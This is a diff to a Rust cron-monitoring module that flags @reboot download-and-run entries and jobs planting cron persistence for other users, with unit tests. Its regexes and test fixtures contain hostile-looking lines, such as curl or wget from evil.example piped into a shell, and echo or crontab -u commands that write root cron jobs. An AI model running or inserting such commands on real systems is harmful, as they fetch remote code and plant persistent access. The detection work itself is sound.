@@ -1,11 +1,23 @@
 use anyhow::Result;
-use chrono::Utc;
 use regex::Regex;
 use sha2::{Digest, Sha256};
 use std::fs;
-use std::path::{Path, PathBuf};
-use walkdir::WalkDir;
-use tracing::info;
+use std::collections::HashSet;
+use std::path::Path;
+use std::process::Command;
+use tracing::{debug, info};
+
+use crate::config::AlertSeverity;
+use crate::users::{read_passwd, PasswdEntry};
+
+/// Pseudo file path for crontabs only reachable through `crontab -l -u`
+const CRONTAB_CMD_PREFIX: &str = "crontab:";
+
+/// Where written files become cron jobs
+const CRON_LOCATIONS: &[&str] = &["/etc/cron.d", "/etc/crontab", "/var/spool/cron"];
+
+/// Commands whose destination is the last operand (or the `-t` directory)
+const COPY_COMMANDS: &[&str] = &["cp", "mv", "install", "ln", "rsync"];
 
 #[derive(Debug, Clone)]
 pub struct CronJob {
@@ -15,13 +27,95 @@ pub struct CronJob {
     pub user: String,
     pub suspicious: bool,
     pub suspicious_reasons: Vec<String>,
+    pub severity: AlertSeverity,  // Critical for boot-time downloaders, Warning otherwise
+}
+
+/// When a cron entry runs
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum CronSchedule {
+    Reboot,
+    Nickname(String),  // @hourly, @daily, ...
+    Fields(String),  // The five time fields
+}
+
+/// Split a crontab line into its schedule and command. System crontabs (/etc/crontab,
+/// /etc/cron.d) carry a user field between the two. Comments, blank lines and
+/// `VAR=value` assignments yield None.
+pub fn parse_entry(line: &str, system_crontab: bool) -> Option<(CronSchedule, &str)> {
+    let line = line.trim();
+    let first = line.split_whitespace().next()?;
+    if line.starts_with('#') || (first.contains('=') && !first.starts_with('@')) {
+        return None;
+    }
+    let user_field = usize::from(system_crontab);
+    if first.starts_with('@') {
+        let (_, command) = split_fields(line, 1 + user_field)?;
+        let schedule = match first {
+            "@reboot" => CronSchedule::Reboot,
+            nickname => CronSchedule::Nickname(nickname.to_string()),
+        };
+        return Some((schedule, command));
+    }
+    let (time, _) = split_fields(line, 5)?;
+    let (_, command) = split_fields(line, 5 + user_field)?;
+    Some((CronSchedule::Fields(time.trim_end().to_string()), command))
+}
+
+/// Destinations of the cp/mv/install/ln/rsync commands in a line: the `-t` directory,
+/// else the last operand
+fn copy_destinations(line: &str) -> Vec<&str> {
+    line.split([';', '|', '&', '(', ')'])
+        .filter_map(|segment| {
+            let mut words = segment.split_whitespace().map(|w| w.trim_matches(['\'', '"']));
+            words.find(|w| COPY_COMMANDS.contains(&w.rsplit('/').next().unwrap_or(w)))?;
+            let args: Vec<&str> = words.collect();
+            let target_dir = args.iter().enumerate().find_map(|(i, arg)| match *arg {
+                "-t" => args.get(i + 1).copied(),
+                _ => arg.strip_prefix("--target-directory="),
+            });
+            target_dir.or_else(|| args.iter().rev().find(|arg| !arg.starts_with('-')).copied())
+        })
+        .collect()
+}
+
+/// The cron location a path lies in
+fn cron_location(path: &str) -> Option<&'static str> {
+    CRON_LOCATIONS.iter().find(|location| Path::new(path).starts_with(location)).copied()
+}
+
+/// The first `n` whitespace-separated fields and the remainder of the line
+fn split_fields(line: &str, n: usize) -> Option<(&str, &str)> {
+    let mut end = 0;
+    for _ in 0..n {
+        let rest = &line[end..];
+        let start = end + (rest.len() - rest.trim_start().len());
+        let len = line[start..].find(char::is_whitespace).unwrap_or(line.len() - start);
+        if len == 0 {
+            return None;
+        }
+        end = start + len;
+    }
+    let command = line[end..].trim();
+    if command.is_empty() {
+        return None;
+    }
+    Some((&line[..end], command))
 }
 
 pub struct CronWatcher {
     suspicious_patterns: Vec<Regex>,
+    downloader_pattern: Regex,
+    cron_write_pattern: Regex,
+    crontab_user_pattern: Regex,
     last_snapshots: std::collections::HashMap<String, String>, // (file_path, hash)
 }
 
+impl Default for CronWatcher {
+    fn default() -> Self {
+        Self::new()
+    }
+}
+
 impl CronWatcher {
     pub fn new() -> Self {
         let suspicious_patterns = vec![
@@ -39,6 +133,16 @@ impl CronWatcher {
 
         Self {
             suspicious_patterns,
+            // Remote content piped, substituted or process-substituted into a shell
+            downloader_pattern: Regex::new(
+                r#"\b(?:curl|wget|fetch)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|da|k|z)?sh\b|\b(?:ba|da|k|z)?sh\s+(?:-c\s+)?["']?(?:\$\(|`|<\()\s*(?:curl|wget|fetch)\b"#
+            ).unwrap(),
+            // Redirects, tee, dd of= or sed -i targeting cron locations; cp and friends
+            // are checked by `copy_destinations`, since their sources are only read
+            cron_write_pattern: Regex::new(
+                r"(?:>>?\s*|\btee\s+(?:-a\s+)?|\bof=|\bsed\s+-i\b[^;|&]*\s)(/etc/cron\.d|/etc/crontab|/var/spool/cron)"
+            ).unwrap(),
+            crontab_user_pattern: Regex::new(r"\bcrontab\b[^;|&]*\s-u\s*([A-Za-z0-9_.-]+)").unwrap(),
             last_snapshots: std::collections::HashMap::new(),
         }
     }
@@ -109,13 +213,59 @@ impl CronWatcher {
             }
         }
 
+        // Ask crontab for users whose spool lives elsewhere (e.g. /var/spool/cron on RHEL)
+        let covered: HashSet<String> = jobs.iter()
+            .filter(|j| j.file_path.starts_with("/var/spool/cron/crontabs/"))
+            .map(|j| j.user.clone())
+            .collect();
+        jobs.extend(self.scan_crontab_command(&read_passwd(), &covered));
+
         Ok(jobs)
     }
 
+    /// Run `crontab -l -u <user>` for every passwd user not already covered by a spool file
+    fn scan_crontab_command(&mut self, passwd: &[PasswdEntry], covered: &HashSet<String>) -> Vec<CronJob> {
+        let mut jobs = Vec::new();
+        let mut seen = HashSet::new();
+
+        for entry in passwd {
+            if covered.contains(&entry.name) || !seen.insert(entry.name.as_str()) {
+                continue;
+            }
+
+            let output = match Command::new("crontab").args(["-l", "-u", &entry.name]).output() {
+                Ok(output) => output,
+                Err(e) => {
+                    debug!("crontab binary unavailable, skipping per-user crontab fallback: {}", e);
+                    break;
+                }
+            };
+
+            // Non-zero exit is normally "no crontab for <user>"
+            if !output.status.success() {
+                continue;
+            }
+
+            let content = String::from_utf8_lossy(&output.stdout).into_owned();
+            if content.trim().is_empty() {
+                continue;
+            }
+
+            let file_path = format!("{}{}", CRONTAB_CMD_PREFIX, entry.name);
+            jobs.push(self.scan_content(&file_path, &entry.name, content));
+        }
+
+        jobs
+    }
+
     fn scan_file(&mut self, file_path: &str, user: &str) -> Result<CronJob> {
         let content = fs::read_to_string(file_path)
             .unwrap_or_else(|_| String::new());
-        
+
+        Ok(self.scan_content(file_path, user, content))
+    }
+
+    fn scan_content(&mut self, file_path: &str, user: &str, content: String) -> CronJob {
         let content_hash = self.hash_content(&content);
         
         // Check if this is a new or changed file
@@ -151,14 +301,89 @@ impl CronWatcher {
             reasons.push("Contains npm install (potential supply-chain risk)".to_string());
         }
 
-        Ok(CronJob {
+        let lateral = self.lateral_persistence_reasons(file_path, user, &content);
+        if !lateral.is_empty() {
+            suspicious = true;
+            reasons.extend(lateral);
+        }
+
+        let mut severity = AlertSeverity::Warning;
+        let reboot = self.reboot_downloader_reasons(file_path, &content);
+        if !reboot.is_empty() {
+            suspicious = true;
+            severity = AlertSeverity::Critical;
+            reasons.extend(reboot);
+        }
+
+        CronJob {
             file_path: file_path.to_string(),
-            content: content.clone(),
+            content,
             content_hash,
             user: user.to_string(),
             suspicious,
             suspicious_reasons: reasons,
-        })
+            severity,
+        }
+    }
+
+    /// `@reboot` entries that fetch and run remote code: the payload is re-downloaded
+    /// on every boot, so cleaning up the binary alone never sticks
+    fn reboot_downloader_reasons(&self, file_path: &str, content: &str) -> Vec<String> {
+        let system_crontab = file_path == "/etc/crontab" || file_path.starts_with("/etc/cron.d/");
+        let mut reasons = Vec::new();
+        for line in content.lines() {
+            let Some((CronSchedule::Reboot, command)) = parse_entry(line, system_crontab) else {
+                continue;
+            };
+            if self.downloader_pattern.is_match(command) {
+                let reason = format!("@reboot downloader (re-fetches code at every boot): {}", command);
+                if !reasons.contains(&reason) {
+                    reasons.push(reason);
+                }
+            }
+        }
+        reasons
+    }
+
+    /// Entries that plant cron jobs elsewhere: writing into /etc/cron.d, /etc/crontab or
+    /// the spool, or `crontab -u` for a user other than the one the entry runs as
+    fn lateral_persistence_reasons(&self, file_path: &str, user: &str, content: &str) -> Vec<String> {
+        // System crontabs name the user in the 6th field of each entry
+        let system_crontab = file_path == "/etc/crontab" || file_path.starts_with("/etc/cron.d/");
+        let mut reasons = Vec::new();
+
+        for line in content.lines().map(str::trim) {
+            if line.is_empty() || line.starts_with('#') {
+                continue;
+            }
+
+            let written = self.cron_write_pattern.captures(line)
+                .and_then(|target| cron_location(&target[1]))
+                .into_iter()
+                .chain(copy_destinations(line).into_iter().filter_map(cron_location));
+            for location in written {
+                let reason = format!("Writes to {} (lateral persistence)", location);
+                if !reasons.contains(&reason) {
+                    reasons.push(reason);
+                }
+            }
+
+            let runs_as = if system_crontab {
+                line.split_whitespace().nth(5).unwrap_or(user)
+            } else {
+                user
+            };
+            for cap in self.crontab_user_pattern.captures_iter(line) {
+                let target_user = &cap[1];
+                if target_user != runs_as {
+                    let reason = format!("Runs crontab -u {} as {} (lateral persistence)", target_user, runs_as);
+                    if !reasons.contains(&reason) {
+                        reasons.push(reason);
+                    }
+                }
+            }
+        }
+        reasons
     }
 
     fn hash_content(&self, content: &str) -> String {
@@ -259,3 +484,133 @@ impl CronWatcher {
     }
 }
 
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn crontab_fallback_skips_covered_users() {
+        let mut watcher = CronWatcher::new();
+        let passwd = vec![PasswdEntry {
+            name: "deploy".to_string(),
+            uid: 1000,
+            gid: 1000,
+            home: "/home/deploy".to_string(),
+            shell: "/bin/bash".to_string(),
+        }];
+        let covered: HashSet<String> = ["deploy".to_string()].into_iter().collect();
+
+        assert!(watcher.scan_crontab_command(&passwd, &covered).is_empty());
+    }
+
+    #[test]
+    fn scans_crontab_output_like_files() {
+        let mut watcher = CronWatcher::new();
+        let job = watcher.scan_content(
+            "crontab:www-data",
+            "www-data",
+            "* * * * * curl -fsSL http://evil.example/x.sh | bash\n".to_string(),
+        );
+        assert!(job.suspicious);
+        assert_eq!(job.user, "www-data");
+    }
+
+    #[test]
+    fn flags_entries_that_plant_cron_jobs_elsewhere() {
+        let mut watcher = CronWatcher::new();
+        let job = watcher.scan_content(
+            "/var/spool/cron/crontabs/www-data",
+            "www-data",
+            concat!(
+                "*/5 * * * * echo '* * * * * root /tmp/.x/run' > /etc/cron.d/0systemd\n",
+                "@hourly cp /tmp/.x/cron /var/spool/cron/crontabs/root\n",
+                "0 * * * * (crontab -l; echo '@reboot /tmp/.x/run') | crontab -u root -\n",
+            ).to_string(),
+        );
+        assert!(job.suspicious);
+        assert!(job.suspicious_reasons.contains(&"Writes to /etc/cron.d (lateral persistence)".to_string()));
+        assert!(job.suspicious_reasons.contains(&"Writes to /var/spool/cron (lateral persistence)".to_string()));
+        assert!(job.suspicious_reasons.contains(&"Runs crontab -u root as www-data (lateral persistence)".to_string()));
+
+        let job = watcher.scan_content(
+            "/etc/cron.d/evil",
+            "root",
+            "* * * * * root echo '* * * * * /tmp/x' | tee -a /etc/crontab\n".to_string(),
+        );
+        assert_eq!(job.suspicious_reasons, vec!["Writes to /etc/crontab (lateral persistence)".to_string()]);
+
+        // Cron files copied elsewhere are only read
+        let job = watcher.scan_content(
+            "/var/spool/cron/crontabs/root",
+            "root",
+            concat!(
+                "@daily cp /etc/crontab /srv/backup/crontab\n",
+                "@daily rsync -a /var/spool/cron/ /etc/cron.d.bak/ && gzip -f /srv/backup/crontab\n",
+            ).to_string(),
+        );
+        assert!(job.suspicious_reasons.is_empty(), "{:?}", job.suspicious_reasons);
+        let job = watcher.scan_content(
+            "/var/spool/cron/crontabs/www-data",
+            "www-data",
+            "@hourly /bin/cp -t /etc/cron.d /tmp/.x/job\n".to_string(),
+        );
+        assert_eq!(job.suspicious_reasons, vec!["Writes to /etc/cron.d (lateral persistence)".to_string()]);
+    }
+
+    #[test]
+    fn parses_schedules_and_commands() {
+        assert_eq!(parse_entry("@reboot  /tmp/x --run", false), Some((CronSchedule::Reboot, "/tmp/x --run")));
+        assert_eq!(parse_entry("@reboot root /tmp/x", true), Some((CronSchedule::Reboot, "/tmp/x")));
+        assert_eq!(parse_entry("*/5 * * * * root run-parts /etc/x", true),
+                   Some((CronSchedule::Fields("*/5 * * * *".to_string()), "run-parts /etc/x")));
+        assert_eq!(parse_entry("@daily backup.sh", false),
+                   Some((CronSchedule::Nickname("@daily".to_string()), "backup.sh")));
+        assert_eq!(parse_entry("SHELL=/bin/bash", false), None);
+        assert_eq!(parse_entry("# @reboot curl x | sh", false), None);
+        assert_eq!(parse_entry("@reboot", false), None);
+    }
+
+    #[test]
+    fn reboot_downloaders_are_critical() {
+        let mut watcher = CronWatcher::new();
+        let job = watcher.scan_content(
+            "/var/spool/cron/crontabs/www-data",
+            "www-data",
+            concat!(
+                "@reboot curl -fsSL http://evil.example/x.sh | bash\n",
+                "@reboot sh -c \"$(wget -qO- http://evil.example/y)\"\n",
+            ).to_string(),
+        );
+        assert!(job.suspicious);
+        assert_eq!(job.severity, AlertSeverity::Critical);
+        let reboot: Vec<_> = job.suspicious_reasons.iter().filter(|r| r.starts_with("@reboot downloader")).collect();
+        assert_eq!(reboot.len(), 2, "{:?}", job.suspicious_reasons);
+
+        // Same downloader on a schedule, or a plain @reboot job, stays a warning
+        let job = watcher.scan_content(
+            "crontab:deploy",
+            "deploy",
+            concat!(
+                "*/10 * * * * curl -fsSL http://evil.example/x.sh | bash\n",
+                "@reboot /usr/bin/pm2 resurrect\n",
+            ).to_string(),
+        );
+        assert!(job.suspicious);
+        assert_eq!(job.severity, AlertSeverity::Warning);
+    }
+
+    #[test]
+    fn ignores_reads_and_own_crontab_edits() {
+        let mut watcher = CronWatcher::new();
+        let job = watcher.scan_content(
+            "/etc/cron.d/backup",
+            "root",
+            concat!(
+                "# cp /etc/cron.d/* /backup is done by the job below\n",
+                "0 3 * * * root tar czf /backup/cron.tgz /etc/cron.d /var/spool/cron\n",
+                "0 4 * * * deploy crontab -u deploy -l > /home/deploy/crontab.bak\n",
+            ).to_string(),
+        );
+        assert!(!job.suspicious, "{:?}", job.suspicious_reasons);
+    }
+}